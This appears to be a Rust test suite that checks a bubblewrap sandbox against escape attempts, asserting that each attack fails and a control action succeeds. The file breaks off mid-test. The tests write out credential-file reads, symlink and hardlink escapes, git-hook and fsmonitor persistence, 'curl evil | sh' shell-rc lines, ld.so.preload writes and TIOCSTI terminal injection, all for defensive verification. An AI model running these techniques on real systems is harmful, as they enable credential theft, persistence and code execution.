//! The escape suite: each test is one attack run inside the real bubblewrap
//! sandbox against a throwaway world (tempdir: fake HOME with planted fake
//! secrets, a git worktree, a sibling dir), asserting the attack FAILED and
//! that a control version of the same action SUCCEEDED where it should — so
//! each test fails if its protection is removed, and cannot pass merely
//! because the sandbox is broken.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers outside #[test] fns

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;
use paddock_sandbox::{Manifest, Network};

// ---------------------------------------------------------------- secrets

#[test]
fn read_ssh_key_outside_worktree() {
    let w = World::new();
    let key = w.home.join(".ssh/id_ed25519");
    let out = w.sh(&format!(
        "cat '{}' && echo attack=read || echo attack=denied; cat README.md >/dev/null && echo control=ok",
        key.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_ssh_key_when_home_is_granted_read_only() {
    // Even when the whole (fake) HOME is granted, ~/.ssh stays masked.
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "cat '{h}/.ssh/id_ed25519' && echo attack=read || echo attack=denied; ls -A '{h}/.ssh' | wc -l | sed 's/^/entries=/'; \
         cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_aws_credentials_when_home_is_granted() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "cat '{h}/.aws/credentials' && echo attack=read || echo attack=denied; cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_cloud_and_container_configs_when_home_is_granted() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "n=0; for f in .config/gcloud/credentials.db .kube/config .docker/config.json .gnupg/private-keys-v1.d/key \
         .mozilla/firefox/profile/cookies.sqlite; do cat \"{h}/$f\" 2>/dev/null && n=$((n+1)); done; echo leaked=$n; \
         cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "leaked"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_netrc_file_masked() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "c=$(cat '{h}/.netrc'); echo bytes=${{#c}}; cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "bytes"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_dotenv_outside_worktree() {
    let w = World::new();
    let out = w.sh(&format!(
        "cat '{o}/.env' && echo attack=read || echo attack=denied; cat .bashrc >/dev/null && echo control=ok",
        o = w.outside.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn granting_a_never_visible_path_is_refused() {
    let w = World::new();
    let err = w
        .manifest()
        .read_only(w.home.join(".ssh"))
        .build()
        .unwrap_err();
    assert!(err.to_string().contains("never-visible"), "{err}");
    assert!(
        w.manifest()
            .read_only(w.home.join("notes.txt"))
            .build()
            .is_ok(),
        "control: a normal path is accepted"
    );
}

#[test]
fn host_environment_secrets_are_not_inherited() {
    let w = World::new();
    let m = w.manifest().build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("LANG".into(), "C.UTF-8".into()),
        ("AWS_SECRET_ACCESS_KEY".into(), SECRET.into()),
        ("ANTHROPIC_API_KEY".into(), SECRET.into()),
        ("GITHUB_TOKEN".into(), SECRET.into()),
    ];
    let out = w.run_with(&m, &["/bin/sh", "-c", "env; echo lang=$LANG"], host_env);
    assert_no_secret(&out);
    assert_eq!(
        field(&out, "lang"),
        "C.UTF-8",
        "control: allowlisted LANG passes"
    );
}

// ---------------------------------------------------------------- writes

#[test]
fn write_outside_worktree() {
    let w = World::new();
    let out = w.sh(&format!(
        "echo x > '{o}/pwned' && echo attack=wrote || echo attack=denied; test -e '{o}' && echo outside=visible || echo outside=absent; \
         echo ok > written.txt && echo control=ok",
        o = w.outside.display()
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        field(&out, "outside"),
        "absent",
        "not mounted at all (not merely read-only)"
    );
    assert!(!w.outside.join("pwned").exists());
    assert_eq!(field(&out, "control"), "ok");
    assert_eq!(
        fs::read_to_string(w.worktree.join("written.txt")).unwrap(),
        "ok\n",
        "control write reached the host"
    );
}

#[test]
fn write_system_directories_and_root() {
    let w = World::new();
    let out = w.sh(
        "n=0; for p in /usr/pwned /etc/pwned /pwned /bin/pwned /opt/pwned; do (echo x > $p) 2>/dev/null && n=$((n+1)); done; \
         echo wrote=$n; echo x > /tmp/ok && echo x > $HOME/ok && echo control=ok",
    );
    assert_eq!(field(&out, "wrote"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_etc_ld_so_preload() {
    // A persistent LD_PRELOAD for every later process on the host.
    let w = World::new();
    let out = w.sh(
        "r=$( (echo /tmp/evil.so >> /etc/ld.so.preload) 2>&1) && echo attack=wrote || echo attack=denied; echo \"reason=$r\"; \
                   test -r /etc/passwd && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        field(&out, "reason").ends_with("Read-only file system"),
        "a read-only mount: {}",
        field(&out, "reason")
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn symlink_escape_created_inside() {
    let w = World::new();
    let out = w.sh(&format!(
        "ln -s '{h}/.ssh/id_ed25519' stolen && cat stolen && echo attack=read || echo attack=denied; \
         ln -s README.md link && cat link >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn symlink_escape_preplanted_in_repo() {
    // A malicious repo ships a symlink to the user's secrets.
    let w = World::new();
    std::os::unix::fs::symlink(w.home.join(".aws/credentials"), w.worktree.join("creds")).unwrap();
    std::os::unix::fs::symlink(w.outside.join("data.txt"), w.worktree.join("data")).unwrap();
    let out = w.sh("cat creds && echo attack=read || echo attack=denied; cat data && echo followed=yes || echo followed=no; \
                   cat README.md >/dev/null && echo control=ok");
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "followed"), "no");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn hardlink_escape_to_secret() {
    let w = World::new();
    let out = w.sh(&format!(
        "r=$(ln '{h}/.ssh/id_ed25519' stolen 2>&1) && cat stolen && echo attack=read || echo attack=denied; echo \"reason=$r\"; \
         ln README.md hard && cat hard >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    // The secret is not there at all (ENOENT). Were it visible, link(2)
    // across mounts would still fail (EXDEV): a second, weaker layer.
    assert!(
        field(&out, "reason").ends_with("No such file or directory"),
        "{}",
        field(&out, "reason")
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn hardlink_to_protected_git_config_then_write() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh("ln .git/config cfg && echo '[core] hooksPath = /tmp' >> cfg && echo attack=wrote || echo attack=denied; \
                   ln src/main.rs m && echo '// ok' >> m && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn dotdot_traversal() {
    let w = World::new();
    let out = w.sh("cat ../home/.ssh/id_ed25519 && echo attack=read || echo attack=denied; \
                   cat ../outside/data.txt && echo sibling=read || echo sibling=denied; \
                   ls -A .. | tr '\\n' ' ' | sed 's/^/listing=/'; echo; cat ../worktree/README.md >/dev/null && echo control=ok");
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "sibling"), "denied");
    assert_eq!(
        field(&out, "listing").trim(),
        "worktree",
        "only the worktree exists above it"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn replace_protected_path_with_symlink() {
    let w = World::new();
    let out = w.sh(
        "mv .git/hooks .git/hooks.old && echo mv=yes || echo mv=no; rm -rf .git/hooks; \
                   ln -sfn /tmp .git/hooks && echo attack=replaced || echo attack=denied; \
                   mkdir -p plain && mv plain plain.old && ln -s /tmp plain && echo control=ok",
    );
    assert_eq!(field(&out, "mv"), "no");
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        w.worktree.join(".git/hooks/pre-commit").is_file(),
        "hooks survived on the host"
    );
    assert!(
        !fs::symlink_metadata(w.worktree.join(".git/hooks"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_hook() {
    let w = World::new();
    let out = w.sh("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/post-checkout && echo new=wrote || echo new=denied; \
                   echo 'curl evil' >> .git/hooks/pre-commit && echo append=wrote || echo append=denied; \
                   echo ok > src/new.rs && echo control=ok");
    assert_eq!(field(&out, "new"), "denied");
    assert_eq!(field(&out, "append"), "denied");
    assert!(!w.worktree.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_config_core_hookspath() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh(
        "git config core.hooksPath /tmp/evil-hooks && echo attack=set || echo attack=denied; \
                   git status --short >/dev/null && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_config_core_fsmonitor() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh("git config core.fsmonitor 'sh -c \"curl evil\"' && echo attack=set || echo attack=denied; \
                   printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config && echo clobber=yes || echo clobber=no; \
                   git add README.md && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "clobber"), "no");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(
        field(&out, "control"),
        "ok",
        "git still works in the worktree"
    );
}

#[test]
fn shell_rc_persistence_in_worktree() {
    let w = World::new();
    let out = w.sh(
        "echo 'curl evil | sh' >> .bashrc && echo attack=wrote || echo attack=denied; \
                   echo 'x' >> README.md && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".bashrc")).unwrap(),
        "# project bashrc\n"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn shell_rc_persistence_in_home() {
    // The private HOME is writable but ephemeral and not the host's.
    let w = World::new();
    let out = w.sh("echo 'curl evil | sh' >> ~/.bashrc && echo control=ok");
    assert_eq!(field(&out, "control"), "ok");
    assert_eq!(
        fs::read_to_string(w.home.join(".bashrc")).unwrap(),
        "# host bashrc\n"
    );
    let again = w.sh("test -e ~/.bashrc && echo persisted=yes || echo persisted=no");
    assert_eq!(field(&again, "persisted"), "no");
}

#[test]
fn agent_config_dir_write() {
    let w = World::new();
    let out = w.sh("echo '{\"permissions\":{\"allow\":[\"*\"]}}' > .claude/settings.json && echo attack=wrote || echo attack=denied; \
                   cat .claude/settings.json >/dev/null && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(field(&out, "control"), "ok", "agent config stays readable");
}

// ---------------------------------------------------------------- processes

#[test]
fn proc_parent_environ() {
    // A host process holding a secret in its environment (like the engine).
    let w = World::new();
    let mut holder = Command::new("sleep")
        .arg("300")
        .env("HOLDER_TOKEN", SECRET)
        .spawn()
        .unwrap();
    let out = w.sh(&format!(
        "test -e /proc/{pid} && echo pid=visible || echo pid=hidden; \
         cat /proc/{pid}/environ && echo attack=read || echo attack=denied; cat /proc/$PPID/environ 2>/dev/null; echo; \
         cat /proc/self/environ | tr '\\0' '\\n' | grep -c '^HOME=' | sed 's/^/control=/'",
        pid = holder.id()
    ));
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert_no_secret(&out);
    // Own pid namespace: the host process does not exist inside. (Were it
    // visible, the kernel would still refuse its environ across the user
    // namespace boundary: a second layer no bwrap argument removes.)
    assert_eq!(field(&out, "pid"), "hidden");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "1");
}

#[test]
fn proc_1_mem_is_the_sandboxes_own_confined_init() {
    // The threat is the *host's* pid 1 (its memory, its privileges). In its
    // own pid namespace the sandbox's pid 1 is bwrap's reaper instead. The
    // command may well read that process's memory (same uid, dumpable): it
    // gains nothing, as the reaper carries the same seccomp filter stack
    // (the command inherits it: same count), the same uid and no
    // capabilities. Read-only probe: nothing is written to any process.
    let w = World::new();
    let out = w.py("st=dict(l.split(':',1) for l in open('/proc/1/status') if ':' in l)\n\
me=dict(l.split(':',1) for l in open('/proc/self/status') if ':' in l)\n\
print('target=' + st['Name'].strip()); print('target_seccomp=' + st['Seccomp'].strip())\n\
print('filters=%s/%s' % (st['Seccomp_filters'].strip(), me['Seccomp_filters'].strip()))\n\
print('target_capeff=' + st['CapEff'].strip()); print('target_uid=' + st['Uid'].split()[0])\n\
try:\n\
\x20   f=open('/proc/1/mem','rb'); a=int(open('/proc/1/maps').readline().split('-')[0],16); f.seek(a); f.read(16); print('read=yes')\n\
except OSError: print('read=no')\n");
    assert_eq!(
        field(&out, "target"),
        "bwrap",
        "pid 1 is the sandbox's own reaper, not the host's init"
    );
    assert_eq!(field(&out, "target_seccomp"), "2", "the reaper is filtered");
    let filters = field(&out, "filters");
    let (theirs, mine) = filters.split_once('/').unwrap();
    assert_eq!(theirs, mine, "same filter stack as the command");
    assert_eq!(field(&out, "target_capeff"), "0000000000000000");
    assert_eq!(field(&out, "target_uid"), "1000");
    // Whether the read works is not the point (it gives nothing); it must just run.
    assert!(["yes", "no"].contains(&field(&out, "read").as_str()));
}

#[test]
fn ptrace_attach() {
    let w = World::new();
    let out = w.py("import ctypes, os, subprocess\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
p=subprocess.Popen(['sleep','30'])\n\
r=libc.ptrace(16, p.pid, 0, 0)  # PTRACE_ATTACH\n\
print('attack=' + ('attached' if r==0 else 'denied'))\n\
print('errno=%d' % ctypes.get_errno())\n\
os.kill(p.pid, 9); p.wait(); print('control=killed' if p.returncode==-9 else 'control=no')\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "errno"), "1", "EPERM from seccomp");
    assert_eq!(
        field(&out, "control"),
        "killed",
        "the target process existed and was reachable by signal"
    );
}

#[test]
fn process_vm_readv_cross_process() {
    let w = World::new();
    let out = w.py("import ctypes, subprocess\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
p=subprocess.Popen(['sleep','30'])\n\
buf=ctypes.create_string_buffer(8)\n\
class iov(ctypes.Structure): _fields_=[('b',ctypes.c_void_p),('l',ctypes.c_size_t)]\n\
l=iov(ctypes.addressof(buf),8); r=iov(0x400000,8)\n\
n=libc.process_vm_readv(p.pid, ctypes.byref(l),1, ctypes.byref(r),1,0)\n\
print('errno=%d' % ctypes.get_errno()); p.kill(); print('control=%d' % libc.getpid())\n");
    assert_eq!(field(&out, "errno"), "1", "EPERM (seccomp), not EFAULT");
    assert!(field(&out, "control").parse::<u32>().unwrap() > 0);
}

/// The TIOCSTI attack: push "X" into the input queue of stdin's terminal (the
/// user's shell would read it as typed). Prints whether the process has a
/// controlling terminal, whether the push worked, and the errno.
const TIOCSTI_ATTACK: &str = "import errno, fcntl, os, termios\n\
try:\n    os.close(os.open('/dev/tty', os.O_RDWR)); print('ctty=yes')\n\
except OSError: print('ctty=no')\n\
try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'X'); print('attack=injected')\n\
except OSError as e: print('attack=denied'); print('errno=' + errno.errorcode.get(e.errno, str(e.errno)))\n";

struct TerminalRun {
    /// What the program wrote to the terminal.
    text: String,
    /// Bytes waiting in the terminal's input queue afterwards (injected input).
    pending_input: usize,
}

/// A fresh pty in raw mode (so every injected byte counts as pending input).
fn raw_pty() -> (fs::File, fs::File) {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let mut termios = rustix::termios::tcgetattr(&master).unwrap();
    termios.make_raw();
    rustix::termios::tcsetattr(&master, rustix::termios::OptionalActions::Now, &termios).unwrap();
    let slave_path = ptsname(&master, Vec::new()).unwrap();
    let slave = fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(slave_path.to_str().unwrap())
        .unwrap();
    (fs::File::from(master), slave)
}

fn finish_terminal_run(master: fs::File, slave: &fs::File) -> TerminalRun {
    let mut master = master;
    rustix::io::ioctl_fionbio(&master, true).unwrap();
    let mut text = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = master.read(&mut buf) {
        if n == 0 {
            break;
        }
        text.extend_from_slice(&buf[..n]);
    }
    TerminalRun {
        text: String::from_utf8_lossy(&text).into_owned(),
        pending_input: rustix::io::ioctl_fionread(slave).unwrap() as usize,
    }
}

/// Runs [`TIOCSTI_ATTACK`] in the sandbox launched *from a terminal*: the
/// launcher (the test-only bwrap wrapper) makes the pty its controlling
/// terminal, as a user's shell is for `paddock sandbox run`.
fn tiocsti_in_sandbox(options: &[&str]) -> TerminalRun {
    let w = World::new();
    let (master, slave) = raw_pty();
    let mut all = vec!["ctty-stdin"];
    all.extend_from_slice(options);
    let argv: Vec<std::ffi::OsString> = vec![
        "/usr/bin/python3".into(),
        "-c".into(),
        TIOCSTI_ATTACK.into(),
    ];
    let m = w.manifest().build().unwrap();
    let mut cmd = backend_with(&all)
        .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
        .unwrap();
    cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::piped());
    let out = wait_with_timeout(cmd.spawn().unwrap());
    assert!(out.status.success(), "stderr: {}", stderr(&out));
    finish_terminal_run(master, &slave)
}

/// Control: the same attack, unsandboxed, from a session whose controlling
/// terminal is the pty (util-linux `setsid --ctty`). Proves the attack code
/// works and this kernel permits TIOCSTI on one's own terminal.
fn tiocsti_unsandboxed() -> TerminalRun {
    let (master, slave) = raw_pty();
    let child = Command::new("setsid")
        .args(["--wait", "--ctty", "python3", "-c", TIOCSTI_ATTACK])
        .stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::piped())
        .spawn()
        .expect("setsid (apt package util-linux) is needed for the TIOCSTI control");
    let out = wait_with_timeout(child);
    assert!(out.status.success(), "stderr: {}", stderr(&out));
    finish_terminal_run(master, &slave)
}

#[track_caller]
fn assert_tiocsti_control_injects() {
    let control = tiocsti_unsandboxed();
    let legacy = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or_default();
    assert_ne!(
        legacy.trim(),
        "0",
        "this kernel forbids TIOCSTI to everyone (dev.tty.legacy_tiocsti=0): the attack cannot \
         run here, so these tests cannot show the sandbox stops it; run them with the sysctl at 1"
    );
    assert!(
        control.text.contains("ctty=yes")
            && control.text.contains("attack=injected")
            && control.pending_input == 1,
        "control: unsandboxed, with the pty as controlling terminal, TIOCSTI must work: {} (pending {})",
        control.text,
        control.pending_input
    );
}

#[test]
fn tiocsti_new_session_detaches_the_launching_terminal() {
    // bwrap --new-session: the sandboxed command is not in the launcher's
    // session, so the user's terminal is not its controlling terminal.
    // (The seccomp TIOCSTI rule also stands in the way; the ctty=no check is
    // what depends on --new-session alone.)
    assert_tiocsti_control_injects();
    let run = tiocsti_in_sandbox(&[]);
    assert!(
        run.text.contains("ctty=no"),
        "no controlling terminal inside: {}",
        run.text
    );
    assert!(run.text.contains("attack=denied"), "{}", run.text);
    assert_eq!(run.pending_input, 0, "nothing was pushed into the terminal");
}

#[test]
fn tiocsti_refused_by_seccomp_even_with_the_terminal_as_ctty() {
    // Layer isolation: --new-session is dropped for this one run, so the
    // sandboxed command keeps the launching terminal as its controlling
    // terminal (as under a backend without it). Only the seccomp ioctl rule
    // stands between it and the user's shell.
    assert_tiocsti_control_injects();
    let run = tiocsti_in_sandbox(&["no-new-session"]);
    assert!(
        run.text.contains("ctty=yes"),
        "control: the terminal is the command's ctty here: {}",
        run.text
    );
    assert!(run.text.contains("attack=denied"), "{}", run.text);
    assert!(
        run.text.contains("errno=EPERM"),
        "refused by the filter: {}",
        run.text
    );
    assert_eq!(run.pending_input, 0, "nothing was pushed into the terminal");
}

#[test]
fn umount_proc_and_mount() {
    // Three layers refuse these, all with EPERM: the seccomp mount-family
    // rules, the lack of capabilities, and (bwrap started by root, as here)
    // a mount namespace owned by a user namespace above the sandbox's. No
    // single mutation removes all three, so this run cannot tell them apart:
    // tests/seccomp_filter.rs proves the seccomp rules on the compiled
    // programs, capabilities_and_no_new_privs the capability set.
    let w = World::new();
    let out = w.sh(
        "umount /proc 2>/dev/null && echo umount=yes || echo umount=no; \
         umount -l /proc 2>/dev/null && echo lazy=yes || echo lazy=no; \
         mount -t tmpfs none /tmp 2>/dev/null && echo mount=yes || echo mount=no; \
         head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'",
    );
    assert_eq!(field(&out, "umount"), "no");
    assert_eq!(field(&out, "lazy"), "no");
    assert_eq!(field(&out, "mount"), "no");
    assert_eq!(field(&out, "control"), "Name:");
}

#[test]
fn capabilities_and_no_new_privs() {
    let w = World::new();
    let out = w.sh("grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs|Seccomp|Uid):' /proc/self/status | tr -d '\\t ' | tr ':' '='");
    for cap in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
        assert_eq!(field(&out, cap), "0000000000000000", "{cap}");
    }
    assert_eq!(field(&out, "NoNewPrivs"), "1");
    assert_eq!(field(&out, "Seccomp"), "2", "a seccomp filter is active");
    assert_eq!(field(&out, "Uid"), "1000100010001000", "uid 1000, not root");
}

#[test]
fn setuid_binary_does_not_elevate() {
    let w = World::new();
    // A setuid-root copy of `id`, made on the host in the throwaway dir, by `cp`:
    // a copy written from this process could be held open for writing by a child
    // another test thread forks meanwhile, and running it would fail with ETXTBSY.
    let suid = w.worktree.join("suid-id");
    assert!(std::process::Command::new("cp").arg("/usr/bin/id").arg(&suid).status().unwrap().success());
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    let out = w.sh("echo euid=$(./suid-id -u); echo control=$(/usr/bin/id -u); /usr/bin/su -c true root </dev/null 2>/dev/null && echo su=yes || echo su=no");
    assert_eq!(field(&out, "euid"), "1000");
    assert_eq!(field(&out, "control"), "1000");
    assert_eq!(field(&out, "su"), "no");
}

/// Tries to create a user namespace; prints `attack=` and the error.
const NEW_USERNS: &str = "r=$(unshare -U -r id -u 2>&1) && echo attack=created || echo attack=denied; echo \"reason=$r\"; \
                          unshare --net true 2>/dev/null && echo net=created || echo net=denied; echo control=$(id -u)";

#[test]
fn new_user_namespace_refused_by_seccomp() {
    // The filter refuses unshare/clone with namespace flags: EPERM. (bwrap's
    // --disable-userns would refuse it too, with ENOSPC: the errno tells the
    // layers apart.)
    let w = World::new();
    let out = w.sh(NEW_USERNS);
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        field(&out, "reason").ends_with("Operation not permitted"),
        "{}",
        field(&out, "reason")
    );
    assert_eq!(field(&out, "net"), "denied");
    assert_eq!(field(&out, "control"), "1000");
}

#[test]
fn new_user_namespace_refused_by_disable_userns_alone() {
    // Layer isolation: the seccomp filter is left out of this one run, so
    // only bwrap's --disable-userns (a nested user namespace limit) stands.
    let w = World::new();
    let out = w.sh_with(
        &*backend_with(&["no-seccomp"]),
        &w.manifest().build().unwrap(),
        NEW_USERNS,
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        field(&out, "reason").ends_with("No space left on device"),
        "{}",
        field(&out, "reason")
    );
    assert_eq!(field(&out, "control"), "1000");
}

#[test]
fn kill_process_outside_sandbox() {
    // No `kill -9 -1` here: with the pid namespace removed (the mutation
    // check) it would reach every process of the invoking user on the host.
    let w = World::new();
    let mut sleeper = Command::new("sleep").arg("300").spawn().unwrap();
    let out = w.sh(&format!(
        "kill -9 {pid} 2>/dev/null && echo attack=killed || echo attack=denied; \
         sleep 30 & p=$!; kill -9 $p && echo control=ok",
        pid = sleeper.id()
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "the host process survived"
    );
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
}

#[test]
fn sandbox_dies_with_the_thread_that_launched_it() {
    // bwrap --die-with-parent: an agent never outlives the Paddock thread
    // that started it (crash, kill -9 of the app).
    let w = World::new();
    let m = w.manifest().build().unwrap();
    let launcher = std::thread::spawn(move || {
        let argv: Vec<std::ffi::OsString> = ["/bin/sh", "-c", "echo ready; exec sleep 120"]
            .iter()
            .map(Into::into)
            .collect();
        let mut cmd = backend()
            .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
            .unwrap();
        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null());
        let mut child = cmd.spawn().unwrap();
        // Running (so bwrap has set its parent-death signal) before this thread ends.
        let mut line = [0u8; 6];
        child
            .stdout
            .as_mut()
            .unwrap()
            .read_exact(&mut line)
            .unwrap();
        assert_eq!(&line, b"ready\n", "control: the sandbox started");
        child
    });
    let mut child = launcher.join().unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break Some(status);
        }
        if std::time::Instant::now() > deadline {
            break None;
        }
        std::thread::sleep(Duration::from_millis(20)); // polling for exit, not synchronisation
    };
    if status.is_none() {
        child.kill().unwrap();
        child.wait().unwrap();
    }
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(
        status.and_then(|s| s.signal()),
        Some(9),
        "the sandbox was SIGKILLed when its launching thread ended (it would otherwise sleep 120 s)"
    );
}

#[test]
fn a_sandboxed_command_starts_only_once() {
    // Its seccomp program fd is closed after the first start; a second start
    // would hand bwrap a closed (or reused) fd number, so it is refused.
    let w = World::new();
    let m = w.manifest().build().unwrap();
    let mut cmd = backend()
        .command_with_host_env(&m, &["/bin/true".into()], vec![("PATH".into(), "/usr/bin:/bin".into())])
        .unwrap();
    cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    assert!(cmd.status().unwrap().success(), "control: the first start works");
    let err = cmd.spawn().unwrap_err().to_string();
    assert!(err.contains("already started once"), "{err}");
}

/// A SysV shared-memory segment on the host holding [`SECRET`]; removed on drop.
struct HostShm {
    key: u32,
    id: String,
}

impl HostShm {
    fn create() -> HostShm {
        let key = 0x5ad0_0000 | (std::process::id() & 0xffff);
        let py = format!(
            "import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True); libc.shmat.restype=ctypes.c_void_p\n\
i=libc.shmget({key}, 4096, 0o1600 | 0o2000)  # IPC_CREAT|IPC_EXCL, mode 0600\n\
assert i >= 0, ctypes.get_errno()\n\
p=libc.shmat(i, None, 0); ctypes.memmove(p, b'{SECRET}', {len}); libc.shmdt(ctypes.c_void_p(p)); print('id=%d' % i)\n",
            len = SECRET.len()
        );
        let out = Command::new("python3").args(["-c", &py]).output().unwrap();
        HostShm {
            key,
            id: field(&out, "id"),
        }
    }
}

impl Drop for HostShm {
    fn drop(&mut self) {
        let py = format!(
            "import ctypes\nctypes.CDLL(None).shmctl({}, 0, None)  # IPC_RMID",
            self.id
        );
        let _ = Command::new("python3").args(["-c", &py]).status();
    }
}

#[test]
fn sysv_shared_memory_of_the_host_unreachable() {
    // --unshare-ipc: the host's SysV IPC objects do not exist inside.
    let w = World::new();
    let shm = HostShm::create();
    let out = w.py(&format!(
        "import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True); libc.shmat.restype=ctypes.c_void_p\n\
i=libc.shmget({key}, 0, 0)\n\
if i >= 0:\n\
\x20   p=libc.shmat(i, None, 0o10000); print('attack=attached', ctypes.string_at(p, {len}))  # SHM_RDONLY\n\
else: print('attack=denied')\n\
own=libc.shmget(0, 4096, 0o1600)  # a private segment of its own\n\
print('control=%s' % ('ok' if own >= 0 else 'no')); libc.shmctl(own, 0, None)\n",
        key = shm.key,
        len = SECRET.len()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
